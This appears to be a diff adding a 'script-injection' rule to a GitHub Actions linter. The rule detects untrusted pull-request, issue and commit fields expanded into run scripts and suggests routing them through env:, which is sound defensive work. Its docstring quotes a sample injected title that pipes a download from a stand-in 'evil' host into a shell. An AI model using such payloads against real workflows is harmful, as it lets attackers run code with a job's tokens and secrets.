@@ -1,0 +1,164 @@
+"""Untrusted event data expanded straight into a script.
+
+GitHub substitutes ``${{ }}`` expressions into the text of a ``run:`` script (or the
+``script:`` of actions/github-script) before the shell or Node sees it, so a pull request
+title such as ``"; curl evil | sh; echo "`` becomes code. The rule works from a deny-list of
+values an outside contributor controls (titles, bodies, branch names, commit messages and
+author fields); values such as ``github.actor``, ``github.sha`` or a PR number cannot carry
+shell syntax and are not reported.
+"""
+from __future__ import annotations
+
+import re
+
+from ..located import LMap
+from ..model import Step
+from ..registry import check
+from .expr import expressions
+
+# attacker-controlled values; '*' matches one array index
+UNTRUSTED = (
+    "github.head_ref",
+    "github.event.issue.title",
+    "github.event.issue.body",
+    "github.event.pull_request.title",
+    "github.event.pull_request.body",
+    "github.event.pull_request.head.ref",
+    "github.event.pull_request.head.label",
+    "github.event.pull_request.head.repo.default_branch",
+    "github.event.pull_request.head.repo.description",
+    "github.event.pull_request.head.repo.homepage",
+    "github.event.comment.body",
+    "github.event.review.body",
+    "github.event.review_comment.body",
+    "github.event.discussion.title",
+    "github.event.discussion.body",
+    "github.event.pages.*.page_name",
+    "github.event.commits.*.message",
+    "github.event.commits.*.author.email",
+    "github.event.commits.*.author.name",
+    "github.event.commits.*.committer.email",
+    "github.event.commits.*.committer.name",
+    "github.event.head_commit.message",
+    "github.event.head_commit.author.email",
+    "github.event.head_commit.author.name",
+    "github.event.head_commit.committer.email",
+    "github.event.head_commit.committer.name",
+    "github.event.workflow_run.head_branch",
+    "github.event.workflow_run.display_title",
+    "github.event.workflow_run.head_commit.message",
+    "github.event.workflow_run.head_commit.author.email",
+    "github.event.workflow_run.head_commit.author.name",
+    "github.event.workflow_run.head_commit.committer.email",
+    "github.event.workflow_run.head_commit.committer.name",
+    "github.event.workflow_run.head_repository.description",
+    "github.event.workflow_run.pull_requests.*.head.ref",
+    "github.event.merge_group.head_commit.message",
+    "github.event.merge_group.head_commit.author.email",
+    "github.event.merge_group.head_commit.author.name",
+)
+_UNTRUSTED = [tuple(p.split(".")) for p in UNTRUSTED]
+
+_IDENT = r"[A-Za-z_][A-Za-z0-9_-]*"
+# a context path: github.event.pull_request.title, github['event']['issue'].title,
+# github.event.commits[0].message, github.event.commits.*.message
+_PATH = re.compile(
+    rf"(?<![\w.'\"-])({_IDENT})((?:\s*\.\s*(?:{_IDENT}|\*)|\s*\[[^\]]*\])*)"
+)
+_SEG = re.compile(rf"\.\s*({_IDENT}|\*)|\[\s*'([^']*)'\s*\]|\[[^\]]*\]")
+_STRING = re.compile(r"'(?:[^']|'')*'")
+SCRIPT_ACTIONS = ("actions/github-script",)
+
+
+def _segments(head: str, rest: str) -> tuple[str, ...]:
+    segs = [head.lower()]
+    for m in _SEG.finditer(rest):
+        if m.group(1) is not None:
+            segs.append(m.group(1).lower())
+        elif m.group(2) is not None:
+            segs.append(m.group(2).lower())
+        else:
+            segs.append("*")
+    return tuple(segs)
+
+
+def _match(path: tuple[str, ...], pattern: tuple[str, ...]) -> bool:
+    return len(path) == len(pattern) and all(p == q or q == "*" for p, q in zip(path, pattern))
+
+
+def _covers(path: tuple[str, ...]) -> str | None:
+    """The untrusted value that ``path`` names or (as a whole object) contains."""
+    for pat in _UNTRUSTED:
+        if _match(path, pat):
+            return ".".join(path)
+    return None
+
+
+def _object_with_untrusted(path: tuple[str, ...]) -> str | None:
+    """``github.event`` or ``github.event.pull_request`` serialised whole (``toJSON``)."""
+    if len(path) < 2 or path[:2] != ("github", "event"):
+        return None
+    for pat in _UNTRUSTED:
+        if len(pat) > len(path) and all(p == q or q == "*" for p, q in zip(path, pat)):
+            return ".".join(path)
+    return None
+
+
+def untrusted_refs(inner: str) -> list[str]:
+    """Untrusted values an expression reads (deny-list), in order."""
+    # blank out string literals so that 'github.event.issue.title' in quotes is not a read
+    text = _STRING.sub(lambda m: " " * len(m.group(0)), inner)
+    out = []
+    for m in _PATH.finditer(text):
+        path = _segments(m.group(1), m.group(2))
+        hit = _covers(path)
+        if hit is None:
+            before = text[: m.start()].rstrip()
+            if re.search(r"\btojson\s*\(\s*$", before, re.I):
+                hit = _object_with_untrusted(path)
+        if hit and hit not in out:
+            out.append(hit)
+    return out
+
+
+def _uses(node: LMap) -> str:
+    u = node.get("uses")
+    return u.split("@", 1)[0].lower() if isinstance(u, str) else ""
+
+
+def _env_name(value: str) -> str:
+    parts = value.split(".")
+    if parts[:2] == ["github", "event"]:
+        parts = parts[2:]
+    name = "_".join(p for p in parts if p != "*").upper()
+    return re.sub(r"[^A-Z0-9_]", "_", name) or "VALUE"
+
+
+@check("script-injection", on="step")
+def script_injection(ctx, step: Step) -> None:
+    node = step.node
+    targets = []
+    run = node.get("run")
+    if isinstance(run, str):
+        targets.append((node, "run", run, "shell script"))
+    if _uses(node) in SCRIPT_ACTIONS and isinstance(node.get("with"), LMap):
+        script = node["with"].get("script")
+        if isinstance(script, str):
+            targets.append((node["with"], "script", script, "JavaScript of actions/github-script"))
+    for holder, key, text, what in targets:
+        span = holder.value_span(key)
+        for start, end, inner in expressions(text):
+            for value in untrusted_refs(inner):
+                var = _env_name(value)
+                ref = f'"${var}"' if key == "run" else f"process.env.{var}"
+                if value == "github.head_ref" and key == "run":
+                    var, ref = "HEAD_REF", '"$HEAD_REF" (or the runner\'s own "$GITHUB_HEAD_REF")'
+                ctx.report(
+                    "script-injection",
+                    ctx.sub_span(span, text, start, start + 3),
+                    f"`{value}` is set by whoever opens the pull request, issue or commit, and "
+                    f"`${{{{ }}}}` pastes it into the {what} before it runs, so a crafted value "
+                    f"runs as code with this job's token and secrets. Fix: pass it through "
+                    f"`env:` (`{var}: ${{{{ {value} }}}}`) and read {ref} instead",
+                    context=f"{step.ident}:{key}:{value}",
+                )
